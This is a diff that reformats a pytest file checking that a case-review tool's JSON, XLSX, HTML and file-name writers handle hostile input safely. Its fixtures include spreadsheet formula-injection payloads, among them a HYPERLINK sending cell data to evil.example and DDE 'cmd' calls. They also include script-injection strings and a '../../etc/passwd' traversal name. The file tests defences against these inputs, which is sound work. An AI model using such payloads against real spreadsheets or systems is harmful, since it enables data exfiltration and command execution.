@@ -31,8 +31,14 @@ from casereview.rubric.snapshot import rubric_snapshot
 BAD_BYTES = os.fsdecode(b"bad\xff\xfe-name")  # what a batch listing gives for an invalid UTF-8 name
 LONG = "案" * 85  # 255 bytes in UTF-8: the longest name a file system allows
 CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1", "#N/A"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "#N/A",
+]
 
 HOSTILE = [  # (case_id, path) as the batch listing gives them
     ("ctl\x07\x1b[31mred\x7f\u202e", "batch/ctl\x07\x1b[31mred\x7f\u202e"),
@@ -56,8 +62,13 @@ def _hostile_results() -> dict:
     rubric = builtin_rubric()
     cases = []
     for k, (case_id, path) in enumerate(HOSTILE):
-        entry = make_entry(case_id, rubric, {"S02": "fail", "N03": "fail", "E03": "manual", "H01": "na"},
-                           party=FORMULAS[k % len(FORMULAS)], number=k + 1)
+        entry = make_entry(
+            case_id,
+            rubric,
+            {"S02": "fail", "N03": "fail", "E03": "manual", "H01": "na"},
+            party=FORMULAS[k % len(FORMULAS)],
+            number=k + 1,
+        )
         entry["path"] = path
         entry["department"] = f"青山县\x00市场\u202e监督管理局{'<script>alert(1)</script>' if k % 2 else ''}"
         entry["case_number"] = FORMULAS[(k + 1) % len(FORMULAS)]
@@ -69,14 +80,21 @@ def _hostile_results() -> dict:
                 for ev in c.get("evidence") or []:
                     ev["document"] = f"{case_id}</td><script>x()</script>.pdf"
                     ev["quote"] = FORMULAS[k % len(FORMULAS)] + "\x00\x08" + BAD_BYTES
-        entry["errors"] = [{"source": f"{BAD_BYTES}\x07.pdf", "code": "unreadable", "reason": "无法读取\x1b[2J（损坏）"}]
+        entry["errors"] = [
+            {"source": f"{BAD_BYTES}\x07.pdf", "code": "unreadable", "reason": "无法读取\x1b[2J（损坏）"}
+        ]
         cases.append(entry)
     from casereview.api import failed_case  # a case that could not be processed at all, as score lists it
 
     cases.append(failed_case(f"batch/{BAD_BYTES}\x07", "处理失败：超时\x1b[0m", rubric, code="killed"))
-    return {"tool": {"name": "casereview", "version": "0.1.0"}, "rubric": rubric_snapshot(rubric),
-            "period": "2024Q3", "generated_at": "2024-10-08T09:30:00+08:00", "cases": cases,
-            "skipped": [{"path": f"batch/{BAD_BYTES}", "reason": "不是案卷\x07"}]}
+    return {
+        "tool": {"name": "casereview", "version": "0.1.0"},
+        "rubric": rubric_snapshot(rubric),
+        "period": "2024Q3",
+        "generated_at": "2024-10-08T09:30:00+08:00",
+        "cases": cases,
+        "skipped": [{"path": f"batch/{BAD_BYTES}", "reason": "不是案卷\x07"}],
+    }
 
 
 @pytest.fixture(scope="module")
@@ -88,11 +106,14 @@ def _validator():
     import jsonschema
     from referencing import Registry, Resource
 
-    store = {n: json.loads(resources.files("casereview").joinpath(f"schemas/{n}").read_text("utf-8"))
-             for n in ("result.schema.json", "case.schema.json")}
+    store = {
+        n: json.loads(resources.files("casereview").joinpath(f"schemas/{n}").read_text("utf-8"))
+        for n in ("result.schema.json", "case.schema.json")
+    }
     registry = Registry().with_resources((k, Resource.from_contents(v)) for k, v in store.items())
-    return jsonschema.Draft202012Validator(store["result.schema.json"], registry=registry,
-                                           format_checker=jsonschema.FormatChecker())
+    return jsonschema.Draft202012Validator(
+        store["result.schema.json"], registry=registry, format_checker=jsonschema.FormatChecker()
+    )
 
 
 def _assert_safe_name(path: Path) -> None:
@@ -158,8 +179,12 @@ def test_every_writer_writes_every_case_safely(tmp_path, hostile):
     data = json.loads(raw.decode("utf-8"))
     errors = [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in _validator().iter_errors(data)]
     assert not errors, errors[:5]
-    assert [c["case_id"] for c in data["cases"]][:4] == ["ctl\x07\x1b[31mred\x7f\u202e", "bad\\xff\\xfe-name", LONG,
-                                                          "dup"]
+    assert [c["case_id"] for c in data["cases"]][:4] == [
+        "ctl\x07\x1b[31mred\x7f\u202e",
+        "bad\\xff\\xfe-name",
+        LONG,
+        "dup",
+    ]
 
     # text summaries
     for p in written["text"]:
@@ -172,11 +197,15 @@ def test_every_writer_writes_every_case_safely(tmp_path, hostile):
             if where == "properties":
                 _assert_clean(f"{cell.title} {cell.identifier}", f"{p.name} properties")
                 continue
-            assert cell.data_type not in ("f", "e"), f"{p.name}!{cell.coordinate}: {cell.value!r} is a formula"
+            assert cell.data_type not in ("f", "e"), (
+                f"{p.name}!{cell.coordinate}: {cell.value!r} is a formula"
+            )
             if isinstance(cell.value, str):
                 _assert_clean(cell.value, f"{p.name}!{cell.coordinate}")
                 if cell.value.startswith(FORMULA_START):
-                    assert cell.quotePrefix, f"{p.name}!{cell.coordinate}: {cell.value!r} without quote prefix"
+                    assert cell.quotePrefix, (
+                        f"{p.name}!{cell.coordinate}: {cell.value!r} without quote prefix"
+                    )
                     formulas += 1
     assert formulas >= 3 * n, "the formula-like parties and case numbers are on the sheets, as text"
 
@@ -198,8 +227,30 @@ def test_every_writer_writes_every_case_safely(tmp_path, hostile):
     _assert_clean(html, "report.html")
     parser = _Tags()
     parser.feed(html)
-    assert parser.tags <= {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "div", "b", "table",
-                           "thead", "tbody", "tr", "th", "td", "a", "svg", "text", "rect", "line"}, parser.tags
+    assert parser.tags <= {
+        "html",
+        "head",
+        "meta",
+        "title",
+        "style",
+        "body",
+        "h1",
+        "h2",
+        "p",
+        "div",
+        "b",
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "a",
+        "svg",
+        "text",
+        "rect",
+        "line",
+    }, parser.tags
     assert any("<script>alert(1)</script>" in t for t in parser.text), "the text is shown, escaped"
     for href in re.findall(r'href="([^"]+)"', html):
         from urllib.parse import unquote
@@ -208,22 +259,46 @@ def test_every_writer_writes_every_case_safely(tmp_path, hostile):
 
 
 def test_same_id_different_files_get_different_sheets():
-    entries = [{"case_id": "dup", "path": "b/dup"}, {"case_id": "dup", "path": "b/dup.pdf"},
-               {"case_id": "dup", "path": "b/dup.docx"}, {"case_id": "other", "path": "b/other"}]
+    entries = [
+        {"case_id": "dup", "path": "b/dup"},
+        {"case_id": "dup", "path": "b/dup.pdf"},
+        {"case_id": "dup", "path": "b/dup.docx"},
+        {"case_id": "other", "path": "b/other"},
+    ]
     stems = unique_stems(entries)
     assert stems == ["dup", "dup.pdf", "dup.docx", "other"]
     assert unique_stems(entries) == stems, "deterministic"
     # differing only in case (a case-insensitive share), or the very same path twice
-    stems = unique_stems([{"case_id": "Dup", "path": "b/Dup"}, {"case_id": "dup", "path": "b/dup"},
-                          {"case_id": "x", "path": "b/x"}, {"case_id": "x", "path": "b/x"}])
+    stems = unique_stems(
+        [
+            {"case_id": "Dup", "path": "b/Dup"},
+            {"case_id": "dup", "path": "b/dup"},
+            {"case_id": "x", "path": "b/x"},
+            {"case_id": "x", "path": "b/x"},
+        ]
+    )
     assert len({s.casefold() for s in stems}) == 4 and stems[2] != stems[3]
 
 
 def test_file_stems_are_safe_and_tell_ids_apart():
     assert file_stem("qs-2024-017") == "qs-2024-017"  # an ordinary id is its own stem
     assert file_stem("青山县 2024（017）号") == "青山县 2024（017）号"
-    for bad in ["..", ".", "", "../../etc/passwd", "a/b", "a\\b", "ctl\x07", BAD_BYTES, "CON", "nul.txt", "~$x",
-                ".hidden", "x" * 300, LONG + LONG]:
+    for bad in [
+        "..",
+        ".",
+        "",
+        "../../etc/passwd",
+        "a/b",
+        "a\\b",
+        "ctl\x07",
+        BAD_BYTES,
+        "CON",
+        "nul.txt",
+        "~$x",
+        ".hidden",
+        "x" * 300,
+        LONG + LONG,
+    ]:
         stem = file_stem(bad)
         _assert_safe_name(Path(stem + ".xlsx"))
         assert stem not in ("", ".", "..") and "/" not in stem
@@ -245,6 +320,7 @@ def test_one_case_failing_in_a_writer_is_named_and_the_others_are_written(tmp_pa
             if cid == bad:
                 raise RuntimeError("损坏的内容")
             return render(obj, *args)
+
         return render_or_fail
 
     monkeypatch.setattr(xlsx_writer, "render_xlsx", breaks_on(xlsx_writer.render_xlsx, "case_id"))
@@ -255,7 +331,9 @@ def test_one_case_failing_in_a_writer_is_named_and_the_others_are_written(tmp_pa
         with pytest.raises(Skipped) as exc:
             WRITERS[name](results, tmp_path)
         assert exc.value.failed == [bad], name
-        assert len(exc.value.written) == n - 1 and bad in str(exc.value) and "其余案卷已写出" in str(exc.value)
+        assert (
+            len(exc.value.written) == n - 1 and bad in str(exc.value) and "其余案卷已写出" in str(exc.value)
+        )
         assert all(p.is_file() for p in exc.value.written)
 
 
@@ -273,7 +351,9 @@ def test_outputs_follow_the_umask(tmp_path, results, umask, mode):
     assert paths
     for p in paths:
         assert stat.S_IMODE(p.stat().st_mode) == mode, f"{p.name}: {oct(stat.S_IMODE(p.stat().st_mode))}"
-    assert not [p for p in tmp_path.rglob(".*") if p.name != ".casereview-sheets.json"], "no temporary file left"
+    assert not [p for p in tmp_path.rglob(".*") if p.name != ".casereview-sheets.json"], (
+        "no temporary file left"
+    )
 
 
 def test_atomic_write_leaves_the_old_file_when_it_fails(tmp_path, monkeypatch):
